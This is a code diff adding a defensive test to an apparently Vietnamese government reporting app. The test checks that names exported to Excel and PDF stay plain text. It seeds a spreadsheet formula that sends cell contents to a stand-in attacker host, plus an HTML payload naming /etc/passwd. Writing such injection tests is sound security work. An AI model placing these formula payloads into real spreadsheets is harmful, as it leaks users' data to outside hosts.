@@ -149,3 +149,26 @@ def test_units_and_months_equal_the_report_asked_one_by_one(
                     month.counts.online) == (expected.judged, expected.on_time, expected.received,
                                              expected.online)  # fmt: skip
         transaction.set_rollback(True)
+
+
+FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Xem")'
+MARKUP = 'Phường <img src="/etc/passwd"/> a <b>x & y'
+
+
+def test_names_are_text_in_the_workbook_and_in_the_pdf(staff: Staff) -> None:
+    """QA: a procedure's or a unit's name is never a formula in Excel nor markup in the PDF."""
+    late = received(staff, "2026-03-02 09:00")
+    late.procedure.__class__.objects.filter(pk=late.procedure_id).update(name=FORMULA)
+    Unit.objects.filter(pk=late.deciding_unit_id).update(name=MARKUP)
+    client = city_supervisor()
+    answer = client.get(f"/giam-sat/bao-cao.xlsx?unit={POLICE}&{MARCH}")
+    assert answer.status_code == 200
+    sheet = load_workbook(io.BytesIO(answer.content)).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
+    assert cells
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
+    answer = client.get(f"/giam-sat/bao-cao.pdf?unit={POLICE}&{MARCH}")
+    assert answer.status_code == 200
+    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(answer.content)).pages)
+    assert "<b>x & y" in re.sub(r"\s+", " ", text)
